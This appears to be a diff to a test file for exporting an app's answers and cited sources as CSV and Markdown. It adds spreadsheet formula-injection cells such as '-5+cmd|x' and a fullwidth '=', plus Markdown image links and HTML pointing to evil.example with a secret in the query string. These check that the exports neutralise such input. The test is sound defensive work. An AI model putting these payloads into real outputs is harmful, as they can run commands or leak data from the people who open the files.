@@ -59,12 +59,18 @@ test("CSV has harmless cells and their sources in the last column", () => {
   ])
   for (const [cell, safe] of [
     ["@SUM(A1)", "'@SUM(A1)"],
-    [" =1+1", "' =1+1"],
+    [" =1+1", "'=1+1"],
     ["-5", "-5"],
     ["-5+cmd|x", "'-5+cmd|x"],
+    ["＝1+1", "'＝1+1"],
+    // A quote that is opened at the beginning would be taken off before the formula is looked for, and take in what follows.
+    ['"=1+1"', '"""=1+1"""'],
+    ['"=1+1', '"""=1+1"'],
     ["+1,234.50", "+1,234.50"],
   ])
     expect(toTabs({ rows: [{ cells: [cell ?? ""], numbers: [] }], sources: [] })).toBe(safe)
+  const cut = { rows: [{ cells: ["a\t=1+1", "b;=1+1"], numbers: [] }], sources: [] }
+  expect(csvFile(rowsWithSources(cut))).toBe('\uFEFF"a\t=1+1","b;=1+1"\r\n')
 })
 
 // Would catch: a formula in a workbook, a code that becomes a number, and sources that are left out.
@@ -98,6 +104,24 @@ test("Markdown ends with the sources that are cited", () => {
     "# Q\n\nSo [2].\n\n## Sources\n\n- [2] lease.pdf, Page 3\n",
   )
   expect(savedMarkdown({ title: "Q", text: "So.", sources: [] })).toBe("# Q\n\nSo.\n")
+})
+
+// Would catch: a picture, which tells a server that the file was opened, and what the model had put into its address; and a name that is one.
+test("Markdown fetches nothing and carries out nothing where it is opened", () => {
+  const foreign = { ...source(1, 2), fileName: "![](https:evil.example)<img src=x>\n# a.pdf" }
+  const text =
+    "A ![chart](https://evil.example/?q=secret) [![b][c]](https://example.org/) <img src=x> [1]<br>\n\n" +
+    "<script>\nx\n</script>\n\n`<b>`\n\n[c]: https://evil.example/c.png\n"
+  const saved = savedMarkdown({ title: "Is *it* <b>?", text, sources: [foreign] })
+  expect(saved.split("\n\n")).toEqual([
+    String.raw`# Is \*it\* \<b>?`,
+    String.raw`A chart [b](https://example.org/) \<img src=x> [1]<br>`,
+    String.raw`\<script> x \</script>`,
+    "`<b>`",
+    "[c]: https://evil.example/c.png",
+    "## Sources",
+    `${String.raw`- [1] !\[\](https:evil.example)\<img src=x> # a.pdf, Page 2`}\n`,
+  ])
 })
 
 /** A part of a Word document. */
